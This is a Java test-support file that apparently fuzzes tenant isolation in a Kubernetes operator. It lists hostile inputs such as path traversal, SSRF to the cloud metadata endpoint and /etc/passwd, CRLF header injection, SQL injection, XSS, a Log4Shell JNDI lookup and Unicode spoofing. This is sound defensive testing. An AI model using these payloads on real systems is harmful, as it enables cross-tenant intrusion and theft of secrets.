package dev.tenantry.operator.isolation;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** What a hostile author would write: names and addresses of others, tricks with paths, characters and structure. */
public final class Payloads {

    private static final List<String> PLAIN = List.of(
            // other tenants and the system
            "hooli",
            "mcp-hooli",
            "acme-2",
            "acm",
            "acme/../hooli",
            "tenantry-system",
            "kube-system",
            "server",
            "server.mcp-hooli.svc",
            "server.mcp-hooli.svc.cluster.local",
            "http://server.mcp-hooli.svc:8080",
            "hooli-crm-api",
            "operator-settings",
            "{tenant}",
            "{cluster}",
            "{tenant}/{tenant}",
            "$(HOSTNAME)",
            // secrets of others
            "mcp/prod/hooli/crm",
            "mcp/prod/acme",
            "mcp/prod/acme/",
            "mcp/prod/acme/../hooli/crm",
            "mcp/prod/acme//../hooli/crm",
            "mcp/prod/acme/%2e%2e/hooli/crm",
            "mcp/prod/acme%2f..%2fhooli",
            "mcp/prod/acme2/crm",
            "mcp/staging/acme/crm",
            "MCP/PROD/ACME/crm",
            "/mcp/prod/acme/crm",
            "arn:aws:secretsmanager:eu-west-1:123456789012:secret:mcp/prod/hooli/crm-AbCdEf",
            "arn:aws:secretsmanager:eu-west-1:999999999999:secret:mcp/prod/hooli/crm-AbCdEf",
            "arn:aws:secretsmanager:us-east-1:123456789012:secret:mcp/prod/acme/-AbCdEf",
            "arn:aws:secretsmanager:eu-west-1:123456789012:secret:mcp/prod/acme/crm:x:y",
            "arn:aws:iam::123456789012:role/hooli",
            "arn:aws:s3:::hooli",
            // images, nodes, labels, identities
            "evil.example/server:latest",
            "ghcr.io/tenantry/tenant-server:latest",
            "kubernetes.io/hostname",
            "tenantry.dev/tenant=hooli",
            "app.kubernetes.io/component",
            "app.kubernetes.io/managed-by",
            "pod-security.kubernetes.io/enforce",
            "privileged",
            "eks.amazonaws.com/role-arn",
            "system:masters",
            "system:serviceaccount:tenantry-system:tenantry-operator",
            // addresses
            "169.254.169.254",
            "169.254.169.254/32",
            "0.0.0.0/0",
            "::/0",
            "10.0.0.0/8",
            "172.20.0.1/32",
            "http://169.254.169.254/latest/meta-data",
            "http://2852039166",
            "https://kubernetes.default.svc",
            "file:///etc/passwd",
            "https://crm.acme.example@hooli.example/",
            "https://crm.acme.example\\@hooli.example",
            "127.0.0.1/32",
            "localhost",
            // paths
            "../",
            "..",
            "../../hooli",
            "..\\..\\hooli",
            "//hooli",
            "%2f%2fhooli",
            "%2e%2e%2f",
            "/etc/tenantry/tenant.json",
            "tenant.json",
            "../tenant.json",
            "./x",
            "a/../../b",
            // characters
            "ACME",
            "Acme",
            "\u0430cme",
            "\uff41cme",
            "acme\u200b",
            "acm\u00e9",
            "acme\u202eilooh",
            "acme ",
            " acme",
            "acme\t",
            "acme\r\nX-Client-ID: hooli",
            "a\nb",
            "\u0000",
            "\u001b[31mred",
            "acme\r\n\r\nGET / HTTP/1.1",
            "acme\u2028x",
            // structure
            "\"",
            "\"}",
            "\",\"tenant\":\"hooli",
            "{\"tenant\":\"hooli\"}",
            "}}\n{",
            "'; DROP TABLE tenants; --",
            "<script>alert(1)</script>",
            "<!-- -->",
            "${jndi:ldap://hooli.example/a}",
            "{{ .Values.x }}",
            "%s%n",
            "*",
            "!include /etc/passwd",
            "&anchor",
            "---\nkind: Secret",
            "null",
            "true",
            "0",
            "-1",
            "1e9",
            "~",
            "",
            // sizes
            "1000Ti",
            "999999999999Ti",
            "65Ti",
            "99999h",
            "0s",
            "100000m",
            "512Gi",
            "x".repeat(300),
            "a".repeat(5000));

    private static final long SEED = 20261121;
    private static final int SPLICED_PER_FIELD = 40;

    private final Random random = new Random(SEED);

    /** Every payload as it is, and some of them inside of what the field holds now; the same ones in every run. */
    public List<String> forField(String current) {
        var payloads = new ArrayList<>(PLAIN);
        for (var i = 0; i < SPLICED_PER_FIELD; i++) {
            var payload = PLAIN.get(random.nextInt(PLAIN.size()));
            var at = random.nextInt(current.length() + 1);
            payloads.add(current.substring(0, at) + payload + current.substring(at));
        }
        return payloads;
    }
}
